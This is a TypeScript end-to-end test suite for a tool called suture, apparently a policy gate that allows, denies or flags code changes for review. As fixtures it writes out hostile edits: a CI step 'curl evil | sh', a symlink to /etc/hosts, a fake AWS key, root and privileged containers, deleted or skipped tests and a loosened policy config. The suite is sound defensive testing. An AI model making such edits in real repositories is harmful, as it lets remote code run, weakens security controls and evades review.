/**
 * End-to-end: real changes to a real repository judged by the committed bundle, some through the CLI
 * (`suture policy check`, run from the current source), the rest through checkChange. Each asserts the decision and the exact set
 * of violation ids.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkChange } from '../../src/policy/index.ts';
import { policyVerdict } from '../../src/policy/input.ts';
import type { PolicyDecision, VerdictLike } from '../../src/policy/types.ts';
import { cleanup, ROOT, tempDir } from '../helpers/repo.ts';
import { type AppRepo, BASE_FILES, commitChange, createAppRepo, type Edit, edited, GOOD_FIX, ids } from './app.ts';

// The CLI as `suture` runs it, from the current source (never a possibly stale dist/).
const MAIN = join(ROOT, 'src', 'main.ts');
let repo: AppRepo;
let scratch: string;

beforeAll(async () => {
  repo = await createAppRepo();
  scratch = tempDir('suture-policy-scratch-');
});
afterAll(() => cleanup(repo.dir, scratch));

async function viaCli(head: string, extra: string[] = []): Promise<PolicyDecision> {
  const r = await execa(
    process.execPath,
    [MAIN, 'policy', 'check', '--repo', repo.dir, '--base', repo.base, '--head', head, '--json', ...extra],
    {
      reject: false,
    },
  );
  expect(r.exitCode, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as PolicyDecision;
}

async function judge(name: string, edit: Edit): Promise<PolicyDecision> {
  const head = await commitChange(repo, name, edit);
  return checkChange({ repoDir: repo.dir, base: repo.base, head });
}

const verdict = (over: Record<string, unknown> = {}) => ({
  verdict: 'pass',
  reproduced: true,
  fixed: true,
  testsPassed: true,
  regressionTest: { file: 'tests/test_cart.py', failsBefore: true, passesAfter: true },
  differential: { compared: 3, mismatches: [] },
  reasons: [],
  durationMs: 812,
  installNetwork: 'isolated',
  ...over,
});

describe('through the CLI', () => {
  it('allows a verified source fix with its regression test', async () => {
    const head = await commitChange(repo, 'cli-good-fix', { write: GOOD_FIX });
    const d = await viaCli(head);
    expect(d).toEqual({ decision: 'allow', violations: [] });
  });

  it('allows the same fix with a passing verdict file', async () => {
    const head = await commitChange(repo, 'cli-good-verdict', { write: GOOD_FIX });
    const file = join(scratch, 'pass.json');
    writeFileSync(file, JSON.stringify(verdict()));
    expect((await viaCli(head, ['--verdict', file])).decision).toBe('allow');
  });

  it('denies a candidate whose verdict failed', async () => {
    const head = await commitChange(repo, 'cli-failed-verdict', { write: GOOD_FIX });
    const file = join(scratch, 'fail.json');
    writeFileSync(file, JSON.stringify(verdict({ verdict: 'fail', fixed: false })));
    const d = await viaCli(head, ['--verdict', file]);
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['verify/failed']);
  });

  it('asks for review when no healthy traffic was compared (differential: none), or the verdict does not say', async () => {
    const head = await commitChange(repo, 'cli-no-differential', { write: GOOD_FIX });
    const judgeWith = async (v: object) => {
      const file = join(scratch, 'differential.json');
      writeFileSync(file, JSON.stringify(v));
      return viaCli(head, ['--verdict', file]);
    };
    const none = await judgeWith(verdict({ differential: { status: 'none', compared: 0, mismatches: [] } }));
    expect([none.decision, ids(none)]).toEqual(['review', ['verify/no-differential']]);
    const { differential: _d, ...old } = verdict();
    expect(ids(await judgeWith(old))).toEqual(['verify/no-differential']);
    expect(ids(await judgeWith(verdict({ differential: { compared: 0, mismatches: [] } })))).toEqual([
      'verify/no-differential',
    ]);
    // a verdict of this suture: compared, with the fixed requests' status class carried along
    const ok = await judgeWith(
      verdict({ fixedStatusClass: '4xx', differential: { status: 'compared', compared: 2, mismatches: [] } }),
    );
    expect(ok).toEqual({ decision: 'allow', violations: [] });
  });

  it('carries the differential status and the status class of the fixed requests into the policy input', () => {
    expect(
      policyVerdict({
        ...verdict(),
        verdict: 'pass',
        fixedStatusClass: '2xx',
        differential: { status: 'compared', compared: 3, mismatches: [{}, {}] },
      } as VerdictLike),
    ).toMatchObject({ fixedStatusClass: '2xx', differential: { status: 'compared', compared: 3, mismatches: 2 } });
    expect(policyVerdict({ ...verdict(), differential: undefined } as unknown as VerdictLike)).toMatchObject({
      fixedStatusClass: null,
      differential: { status: 'none', compared: 0, mismatches: 0 },
    });
  });

  it('denies an edit to the CI workflow', async () => {
    const head = await commitChange(repo, 'cli-ci', {
      write: {
        ...GOOD_FIX,
        '.github/workflows/ci.yml': BASE_FILES['.github/workflows/ci.yml'] + '      - run: curl evil | sh\n',
      },
    });
    const d = await viaCli(head);
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['repo/ci-edit']);
    expect(d.violations[0]).toMatchObject({ path: '.github/workflows/ci.yml', level: 'deny' });
  });

  it('asks for review of a dependency change', async () => {
    const head = await commitChange(repo, 'cli-deps', {
      write: { ...GOOD_FIX, 'requirements.txt': BASE_FILES['requirements.txt'] + 'pyyaml==6.0.1\n' },
    });
    const d = await viaCli(head);
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['deps/changed']);
    expect(d.violations[0]!.message).toContain('added: pyyaml');
  });

  it('denies when the bundle is missing (fail closed), with exit 0', async () => {
    const head = await commitChange(repo, 'cli-no-bundle', { write: GOOD_FIX });
    const d = await viaCli(head, ['--bundle', join(scratch, 'nope.tar.gz')]);
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['gate/error']);
  });
});

describe('CLI input errors and output', () => {
  const run = (args: string[]) => execa(process.execPath, [MAIN, 'policy', ...args], { reject: false });

  it('exits 2 with one line for a bad repo, an unknown revision or a malformed verdict', async () => {
    const notRepo = await run(['check', '--repo', scratch, '--base', 'HEAD~1', '--head', 'HEAD', '--json']);
    expect([notRepo.exitCode, notRepo.stdout]).toEqual([2, '']);
    expect(notRepo.stderr.trim().split('\n')).toEqual([`suture: --repo ${scratch} is not a git repository`]);
    const badRev = await run(['check', '--repo', repo.dir, '--base', repo.base, '--head', 'nope', '--json']);
    expect(badRev.exitCode).toBe(2);
    expect(badRev.stderr).toContain('--head nope is not a commit');
    const file = join(scratch, 'bad-verdict.json');
    writeFileSync(file, JSON.stringify({ verdict: 'maybe' }));
    const badVerdict = await run([
      'check',
      '--repo',
      repo.dir,
      '--base',
      repo.base,
      '--head',
      repo.base,
      '--verdict',
      file,
    ]);
    expect(badVerdict.exitCode).toBe(2);
    expect(badVerdict.stderr).toMatch(/--verdict .*bad-verdict.json: verdict:/);
    writeFileSync(file, '{not json');
    expect(
      (await run(['check', '--repo', repo.dir, '--base', repo.base, '--head', repo.base, '--verdict', file])).stderr,
    ).toContain('not valid JSON');
    const missing = await run(['check', '--repo', repo.dir, '--base', repo.base]);
    expect(missing.exitCode).toBe(2);
  });

  it('prints a readable summary without --json', async () => {
    const head = await commitChange(repo, 'cli-summary', {
      write: { ...GOOD_FIX, Dockerfile: edited('Dockerfile', 'USER app', 'USER root') },
    });
    const r = await run(['check', '--repo', repo.dir, '--base', repo.base, '--head', head]);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain('decision: deny');
    expect(r.stdout).toMatch(/deny {2,}docker\/user-root {2}\(Dockerfile\)/);
    expect(r.stdout).toMatch(/review {2}docker\/changed/);
  });

  it('uses an explicit --config instead of the one at the base', async () => {
    const head = await commitChange(repo, 'cli-config', { write: GOOD_FIX });
    const config = join(scratch, 'strict.yaml');
    writeFileSync(config, 'thresholds:\n  maxSourceLines: 1\n');
    const d = await viaCli(head, ['--config', config]);
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['change/large-diff']);
  });
});

describe('through checkChange', () => {
  const deny = async (name: string, edit: Edit, expected: string[]) => {
    const d = await judge(name, edit);
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(expected);
    return d;
  };
  const manifest = (path: string, from: string, to: string) => ({ ...GOOD_FIX, [path]: edited(path, from, to) });

  it('denies an edit to CODEOWNERS', async () => {
    await deny('codeowners', { write: { ...GOOD_FIX, '.github/CODEOWNERS': '* @someone-else\n' } }, ['repo/ci-edit']);
  });

  it('denies an edit to the policy config', async () => {
    await deny(
      'policy-config',
      { write: { ...GOOD_FIX, '.suture/policy.yaml': 'thresholds:\n  maxSourceLines: 9999\n' } },
      ['repo/policy-edit'],
    );
  });

  it('denies a privileged container', async () => {
    const write = manifest('deploy/deployment.yaml', 'allowPrivilegeEscalation: false', 'privileged: true');
    await deny('privileged', { write }, ['k8s/manifest-changed', 'k8s/privileged']);
  });

  it('denies privilege escalation', async () => {
    const write = manifest(
      'deploy/deployment.yaml',
      'allowPrivilegeEscalation: false',
      'allowPrivilegeEscalation: true',
    );
    await deny('escalation', { write }, ['k8s/manifest-changed', 'k8s/privilege-escalation']);
  });

  it('denies host namespaces', async () => {
    const write = manifest(
      'deploy/deployment.yaml',
      'serviceAccountName: cart-api',
      'serviceAccountName: cart-api\n      hostNetwork: true\n      hostPID: true',
    );
    const d = await deny('host-ns', { write }, ['k8s/host-namespace', 'k8s/manifest-changed']);
    expect(d.violations.filter((v) => v.id === 'k8s/host-namespace')).toHaveLength(2);
  });

  it('denies a LoadBalancer service', async () => {
    const write = manifest(
      'deploy/service.yaml',
      'selector: {app: cart-api}',
      'type: LoadBalancer\n  selector: {app: cart-api}',
    );
    await deny('lb', { write }, ['k8s/manifest-changed', 'k8s/service-exposed']);
  });

  it('denies a new container port', async () => {
    const write = manifest(
      'deploy/deployment.yaml',
      '- containerPort: 8080',
      '- containerPort: 8080\n            - containerPort: 9229',
    );
    const d = await deny('new-port', { write }, ['k8s/manifest-changed', 'k8s/new-port']);
    expect(d.violations.find((v) => v.id === 'k8s/new-port')!.message).toContain('9229/TCP');
  });

  it('denies an RBAC wildcard', async () => {
    const write = manifest('deploy/rbac.yaml', 'verbs: ["get", "list"]', 'verbs: ["*"]');
    await deny('rbac-wildcard', { write }, ['k8s/manifest-changed', 'k8s/rbac-wildcard']);
  });

  it('denies a new ClusterRole', async () => {
    const role =
      'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: cart-reader\nrules:\n  - apiGroups: [""]\n    resources: ["nodes"]\n    verbs: ["get"]\n';
    await deny('cluster-role', { write: { ...GOOD_FIX, 'deploy/clusterrole.yaml': role } }, [
      'k8s/cluster-role-added',
      'k8s/manifest-changed',
    ]);
  });

  it('denies deleting a NetworkPolicy', async () => {
    await deny('netpol', { write: GOOD_FIX, remove: ['deploy/networkpolicy.yaml'] }, [
      'k8s/manifest-changed',
      'k8s/networkpolicy-deleted',
    ]);
  });

  it('denies opening a NetworkPolicy to every peer', async () => {
    const write = manifest(
      'deploy/networkpolicy.yaml',
      '    - from:\n        - podSelector:\n            matchLabels: {app: gateway}\n',
      '    - {}\n',
    );
    await deny('netpol-open', { write }, ['k8s/manifest-changed', 'k8s/networkpolicy-loosened']);
  });

  it('denies a changed IAM role annotation', async () => {
    const write = manifest('deploy/rbac.yaml', 'role/cart-api', 'role/admin');
    const d = await deny('iam', { write }, ['k8s/identity-changed', 'k8s/manifest-changed']);
    expect(d.violations[0]!.message).toContain('eks.amazonaws.com/role-arn');
  });

  it('denies an image registry change', async () => {
    const write = manifest(
      'deploy/deployment.yaml',
      'registry.example.com/shop/cart-api:1.4.2',
      'ghcr.io/someone/cart-api:1.4.2',
    );
    await deny('registry', { write }, ['image/registry-changed', 'k8s/manifest-changed']);
  });

  it('denies a Dockerfile base image from another registry', async () => {
    const write = { ...GOOD_FIX, Dockerfile: edited('Dockerfile', 'registry.example.com/python', 'python') };
    await deny('docker-registry', { write }, ['docker/changed', 'image/registry-changed']);
  });

  it('denies USER root in the Dockerfile', async () => {
    await deny('docker-root', { write: { ...GOOD_FIX, Dockerfile: edited('Dockerfile', 'USER app', 'USER root') } }, [
      'docker/changed',
      'docker/user-root',
    ]);
  });

  it('denies deleting a test file', async () => {
    await deny('delete-test', { write: GOOD_FIX, remove: ['tests/test_pricing.py'] }, ['tests/deleted']);
  });

  it('denies removing an assertion', async () => {
    const tests = GOOD_FIX['tests/test_cart.py']!.replace('    assert result["total"] == 6\n', '');
    const d = await deny('weaken', { write: { ...GOOD_FIX, 'tests/test_cart.py': tests } }, [
      'tests/assertion-removed',
    ]);
    expect(d.violations[0]).toMatchObject({ path: 'tests/test_cart.py' });
    expect(d.violations[0]!.message).toContain('tests/test_cart.py:7');
  });

  it('denies skipping a test', async () => {
    const tests = GOOD_FIX['tests/test_cart.py']!.replace(
      'def test_summary_counts_items',
      '@pytest.mark.skip\ndef test_summary_counts_items',
    );
    await deny('skip', { write: { ...GOOD_FIX, 'tests/test_cart.py': tests } }, ['tests/skip-added']);
  });

  it('denies an added secret', async () => {
    const settings = BASE_FILES['app/settings.py'] + 'AWS_ACCESS_KEY_ID = "AKIAZ7QWERTYUIOP4XYZ"\n';
    const d = await deny('secret', { write: { ...GOOD_FIX, 'app/settings.py': settings } }, ['secrets/added']);
    expect(d.violations[0]!.message).toContain('app/settings.py:4');
    expect(d.violations[0]!.message).not.toContain('AKIAZ7QWERTYUIOP4XYZ');
  });

  it('denies a symlink that leaves the repository', async () => {
    await deny('symlink', { write: GOOD_FIX, symlinks: { 'app/hosts': '../../../etc/hosts' } }, [
      'repo/symlink-escape',
    ]);
  });

  it('asks for review of a large diff', async () => {
    const lines = Array.from({ length: 45 }, (_, i) => `    step_${i} = ${i}`).join('\n');
    const write = { ...GOOD_FIX, 'app/pricing.py': `${BASE_FILES['app/pricing.py']}\n\ndef table():\n${lines}\n` };
    const d = await judge('large', { write });
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['change/large-diff']);
  });

  it('asks for review of an image tag bump', async () => {
    const write = manifest('deploy/deployment.yaml', 'cart-api:1.4.2', 'cart-api:1.4.3');
    const d = await judge('tag-bump', { write });
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['k8s/manifest-changed']);
  });

  it('asks for review of a fix without a regression test', async () => {
    const d = await judge('no-test', { write: { 'app/cart.py': GOOD_FIX['app/cart.py']! } });
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['change/no-regression-test']);
  });

  it('asks for review when the sandbox did not reproduce the crash, or confidence is low', async () => {
    const head = await commitChange(repo, 'context', { write: GOOD_FIX });
    const notReproduced = await checkChange({
      repoDir: repo.dir,
      base: repo.base,
      head,
      context: { verdict: { ...verdict(), reproduced: false } as never },
    });
    expect(notReproduced.decision).toBe('review');
    expect(ids(notReproduced)).toEqual(['verify/not-reproduced']);
    const unsure = await checkChange({
      repoDir: repo.dir,
      base: repo.base,
      head,
      context: { candidate: { strategy: 'llm', confidence: 0.3 }, mode: 'auto' },
    });
    expect(ids(unsure)).toEqual(['candidate/low-confidence']);
  });

  it('allows a moved source file inside the source paths with its test', async () => {
    const d = await judge('rename', { write: GOOD_FIX, move: [['app/pricing.py', 'app/prices.py']] });
    expect(d).toEqual({ decision: 'allow', violations: [] });
  });

  it('fails closed on a revision that does not exist and on a corrupt bundle', async () => {
    const missing = await checkChange({ repoDir: repo.dir, base: repo.base, head: 'no-such-branch' });
    expect(missing.decision).toBe('deny');
    expect(ids(missing)).toEqual(['gate/input']);
    const corrupt = join(scratch, 'corrupt.tar.gz');
    writeFileSync(corrupt, 'not a bundle');
    const head = await commitChange(repo, 'corrupt', { write: GOOD_FIX });
    const d = await checkChange({ repoDir: repo.dir, base: repo.base, head, bundlePath: corrupt });
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['gate/error']);
  });
});

describe('policy config read from the base revision', () => {
  let tuned: AppRepo;
  beforeAll(async () => {
    tuned = await createAppRepo({
      '.suture/policy.yaml': 'thresholds:\n  maxSourceLines: 100\npaths:\n  source: ["app/**", "README.md"]\n',
      'scripts/seed.py': 'print("seed")\n',
    });
  });
  afterAll(() => cleanup(tuned.dir));

  it('raises the diff threshold and narrows the source paths without editing Rego', async () => {
    const lines = Array.from({ length: 45 }, (_, i) => `    step_${i} = ${i}`).join('\n');
    const big = await commitChange(tuned, 'big', {
      write: { ...GOOD_FIX, 'app/pricing.py': `${BASE_FILES['app/pricing.py']}\n\ndef table():\n${lines}\n` },
    });
    expect(await checkChange({ repoDir: tuned.dir, base: tuned.base, head: big })).toEqual({
      decision: 'allow',
      violations: [],
    });

    const outside = await commitChange(tuned, 'outside', {
      write: { ...GOOD_FIX, 'scripts/seed.py': 'print("seed 2")\n' },
    });
    const d = await checkChange({ repoDir: tuned.dir, base: tuned.base, head: outside });
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['change/outside-source-paths']);
  });

  it('ignores a config the change itself loosens', async () => {
    const lines = Array.from({ length: 120 }, (_, i) => `    step_${i} = ${i}`).join('\n');
    const head = await commitChange(tuned, 'loosen', {
      write: {
        ...GOOD_FIX,
        '.suture/policy.yaml': 'thresholds:\n  maxSourceLines: 100000\n',
        'app/pricing.py': `${BASE_FILES['app/pricing.py']}\n\ndef table():\n${lines}\n`,
      },
    });
    const d = await checkChange({ repoDir: tuned.dir, base: tuned.base, head });
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['change/large-diff', 'repo/policy-edit']);
  });

  it('denies when the config at the base is invalid (fail closed)', async () => {
    const broken = await createAppRepo({ '.suture/policy.yaml': 'thresholds:\n  maxSourceLinez: 3\n' });
    try {
      const head = await commitChange(broken, 'any', { write: GOOD_FIX });
      const d = await checkChange({ repoDir: broken.dir, base: broken.base, head });
      expect(d.decision).toBe('deny');
      expect(ids(d)).toEqual(['gate/input']);
      expect(d.violations[0]!.message).toContain('maxSourceLinez');
    } finally {
      cleanup(broken.dir);
    }
  });
});
